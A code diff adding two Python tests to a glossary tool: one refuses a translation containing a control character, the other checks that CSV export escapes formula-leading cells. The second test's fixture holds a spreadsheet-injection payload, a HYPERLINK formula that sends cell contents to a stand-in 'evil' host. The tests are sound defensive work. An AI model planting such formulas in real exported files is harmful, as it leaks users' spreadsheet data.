@@ -92,6 +92,38 @@ def test_csv_round_trip_and_bad_rows() -> None:
         read_csv("term,translation\neigenvalue,\n", "g.csv")
 
 
+def test_a_control_character_is_refused_at_import_and_the_locale_keeps_working(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A translation holding U+0001 was imported ("3 terms imported") into a TBX file no XML reader
+    takes: route, export and every later import of the locale stopped until the file was edited."""
+    ws = tmp_path / "ws"
+    assert (
+        run(capsys, "glossary", "import", str(GLOSSARIES / "es.csv"), "--locale", "es", "--locales-dir", str(ws))[0]
+        == 0
+    )
+    before = (ws / "glossary" / "es.tbx").read_bytes()
+    evil = tmp_path / "evil.csv"
+    evil.write_text("term,translation\nsyllabus,programa\nlecture,clase\x01 magistral\n", encoding="utf-8")
+    code, _out, err = run(capsys, "glossary", "import", str(evil), "--locale", "es", "--locales-dir", str(ws))
+    assert code == 2 and err == (
+        f"error: {evil}:3: term 'lecture': its translation holds the control character U+0001, which no TBX "
+        "file can hold: remove it\n"
+    )
+    assert (ws / "glossary" / "es.tbx").read_bytes() == before
+    assert load_glossary(Workspace(str(ws)), "es").terms
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
+    """Cells starting with = + - @ ran as formulas in a spreadsheet (=HYPERLINK(...) leaked cells)."""
+    g = Glossary(
+        "es", (Term('=HYPERLINK("http://evil/?"&A1)', "x"), Term("-ing", "-ando", note="@sum"), Term("plain", "+1"))
+    )
+    text = to_csv(g)
+    assert "\n\"'=HYPERLINK(" in text and "'-ing,'-ando" in text and "'@sum" in text and "'+1" in text
+    assert read_csv(text, "g.csv") == list(g.terms)
+
+
 def test_import_and_export_through_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     ws = tmp_path / "ws"
     code, out, err = run(
